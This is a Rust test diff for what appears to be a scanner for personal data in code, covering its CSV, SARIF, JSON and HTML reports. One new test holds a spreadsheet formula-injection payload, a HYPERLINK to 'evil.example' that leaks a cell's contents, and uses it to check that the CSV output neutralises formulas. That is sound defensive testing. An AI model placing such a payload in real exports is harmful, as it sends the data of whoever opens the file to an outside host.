@@ -356,9 +356,12 @@ fn the_engine_finds_nothing_in_a_report_of_what_it_found() {
             ("a.csv", crate::csv(findings).unwrap()),
             (
                 "a.sarif",
-                crate::sarif(&scan("Review"), findings, "").unwrap(),
+                crate::sarif(&scan("Review"), findings, &[], "").unwrap(),
             ),
-            ("a.json", crate::json(&scan("Review"), findings).unwrap()),
+            (
+                "a.json",
+                crate::json(&scan("Review"), findings, &[]).unwrap(),
+            ),
         ]
     };
     for (name, report) in reports(&findings) {
@@ -368,6 +371,57 @@ fn the_engine_finds_nothing_in_a_report_of_what_it_found() {
     "els@bakkerijvries.nl".clone_into(&mut findings[0].evidence);
     for (name, report) in reports(&findings) {
         assert!(!addresses(name, report).is_empty(), "{name}");
+    }
+}
+
+#[test]
+fn no_field_of_the_table_is_a_formula() {
+    let formula = || "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")".to_owned();
+    let mut finding = finding("nl-bsn", Severity::Low, &formula(), 1);
+    finding.location.part = Some(formula());
+    finding.detector = formula();
+    finding.title = formula();
+    finding.evidence = formula();
+    finding.article = "+31 6".to_owned();
+    finding.reason = Some(formula());
+    finding.fingerprint = formula();
+    finding.commit = Some("-1".to_owned());
+    let table = crate::csv(&[finding]).unwrap();
+    let mut rows = csv::Reader::from_reader(table.as_slice());
+    let row = rows.records().next().unwrap().unwrap();
+    let guarded = row.iter().filter(|field| field.starts_with('\'')).count();
+    assert_eq!(guarded, 9, "{row:?}");
+    assert!(
+        !row.iter()
+            .any(|field| field.starts_with(['=', '+', '-', '@'])),
+        "{row:?}"
+    );
+}
+
+#[test]
+fn the_table_of_categories_counts_what_the_tiles_count() {
+    let mut findings = findings();
+    let mut hostile = finding("file-hostile", Severity::Medium, "old/bomb.zip", 1);
+    hostile.category = Category::File;
+    findings.push(hostile);
+    let document = crate::of_scan(&scan("Review"), &findings, how(Locale::En));
+    let document = serde_json::to_value(&document).unwrap();
+    let categories = document["sections"][0]["sections"].as_array().unwrap();
+    let table = &categories.last().unwrap()["blocks"][0]["table"];
+    let mut counts = [0; 4];
+    for row in table["rows"].as_array().unwrap() {
+        for (count, cell) in counts.iter_mut().zip(&row.as_array().unwrap()[1..]) {
+            *count += cell[0]["text"].as_str().unwrap().parse::<u64>().unwrap();
+        }
+    }
+    assert_eq!(counts, [1, 0, 2, 1]);
+    let page = html(&crate::of_scan(&scan("Review"), &findings, how(Locale::Nl)));
+    for told in [
+        "Middel: 1 bevinding<",
+        "1 verdere bevinding gaat over bestanden zelf; zie “Wat niet gelezen kon worden”.",
+        "Wat niet gelezen kon worden: 2 bevindingen<",
+    ] {
+        assert!(page.contains(told), "{told}");
     }
 }
 
@@ -400,7 +454,8 @@ fn code_hosts_get_what_they_ask_for() {
     findings.push(finding("nl-bsn", Severity::Critical, "hr/loonlijst.csv", 2));
     findings.push(finding("nl-bsn", Severity::Critical, "hr/other.csv", 2));
     let log: Value =
-        serde_json::from_slice(&crate::sarif(&scan("Review"), &findings, "").unwrap()).unwrap();
+        serde_json::from_slice(&crate::sarif(&scan("Review"), &findings, &[], "").unwrap())
+            .unwrap();
     let run = &log["runs"][0];
     // An id would win over the category that a pipeline gives each of its uploads.
     assert!(run["automationDetails"].is_null());
@@ -476,7 +531,7 @@ fn a_code_hosts_limits_are_kept() {
             finding
         })
         .collect();
-    let report = crate::sarif(&scan("Review"), &many, "").unwrap();
+    let report = crate::sarif(&scan("Review"), &many, &[], "").unwrap();
     let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     packed.write_all(&report).unwrap();
     let packed = packed.finish().unwrap().len();
@@ -563,7 +618,7 @@ fn a_code_host_gets_places_that_it_can_open() {
                 finding
             })
             .collect();
-        let log = crate::sarif(&scan, &findings, root).unwrap();
+        let log = crate::sarif(&scan, &findings, &[], root).unwrap();
         let log: Value = serde_json::from_slice(&log).unwrap();
         let results = log["runs"][0]["results"].as_array().unwrap();
         let mut hashes = BTreeSet::new();
